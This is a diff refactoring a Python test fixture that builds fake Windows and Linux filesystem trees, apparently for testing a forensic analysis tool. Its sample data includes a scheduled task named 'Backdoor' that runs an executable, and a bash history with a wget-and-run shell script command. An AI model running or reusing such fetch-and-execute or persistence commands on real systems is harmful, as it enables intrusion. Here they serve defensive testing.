@@ -110,13 +110,16 @@ def windows_tree(base: Path) -> dict[str, str]:
         "Windows/System32/Tasks/Backdoor": b"<?xml version='1.0'?><Task><Actions><Exec><Command>C:\\x.exe"
                                            b"</Command></Exec></Actions></Task>",
     }
-    out = {}
+    return write_tree(base, files)
+
+
+def write_tree(base: Path, files: dict[str, bytes]) -> dict[str, str]:
+    """Write relative path -> bytes under base; returns relative path -> SHA-256."""
     for rel, data in files.items():
         p = base / rel
         p.parent.mkdir(parents=True, exist_ok=True)
         p.write_bytes(data)
-        out[rel] = sha256(data)
-    return out
+    return {rel: sha256(data) for rel, data in files.items()}
 
 
 def linux_tree(base: Path) -> dict[str, str]:
@@ -128,12 +131,7 @@ def linux_tree(base: Path) -> dict[str, str]:
         "var/log/auth.log": b"Dec  1 10:00:00 srv sshd[1]: Accepted password for an from 10.0.0.5 port 22 ssh2\n",
         "home/an/.bash_history": b"wget http://x/y.sh\nsh y.sh\n",
     }
-    out = {}
-    for rel, data in files.items():
-        p = base / rel
-        p.parent.mkdir(parents=True, exist_ok=True)
-        p.write_bytes(data)
-        out[rel] = sha256(data)
+    out = write_tree(base, files)
     (base / "etc" / "resolv.conf").symlink_to("/run/systemd/resolve/stub-resolv.conf")
     return out
 
